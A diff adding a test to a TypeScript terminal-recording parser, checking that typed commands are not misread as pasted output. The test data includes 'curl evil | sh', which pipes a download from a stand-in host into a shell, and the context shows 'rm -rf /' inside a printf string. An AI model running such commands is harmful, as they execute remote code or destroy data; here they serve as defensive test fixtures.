@@ -147,6 +147,17 @@ describe('extractFromBytes: plain shells (dash)', () => {
     expect(texts(r)).toEqual(["printf '$ rm -rf /\\n'", 'cat notes.txt', 'id']);
   });
 
+  it('keeps a typed line a command even where the bytes could also be a multi-line paste', async () => {
+    // dash-multiline-paste recorded `printf "a\n"` + `whoami` pasted at once: the tty echoes both
+    // lines first, then dash prints its prompt right before whoami's output (`$ ssm-user`). The
+    // same bytes, other words: `cat` of a file, then `curl evil | sh` typed. Reading such bytes as
+    // a paste would turn file content into commands and hide what was typed.
+    const pasteShaped = '$ cat notes\r\nwhoami\r\na\r\n$ curl evil | sh\r\n$ echo after\r\nafter\r\n$ ';
+    const r = await extractFromBytes([bytes(pasteShaped)]);
+    expect(texts(r)).toEqual(['cat notes', 'curl evil | sh', 'echo after']);
+    expect(r.commands[0]!.output).toBe('whoami\na');
+  });
+
   it('handles UTF-8 wide characters and emoji', async () => {
     const r = await extractFromBytes([bytes('$ echo 日本語 🎉\r\n日本語 🎉\r\n$ ')]);
     expect(texts(r)).toEqual(['echo 日本語 🎉']);
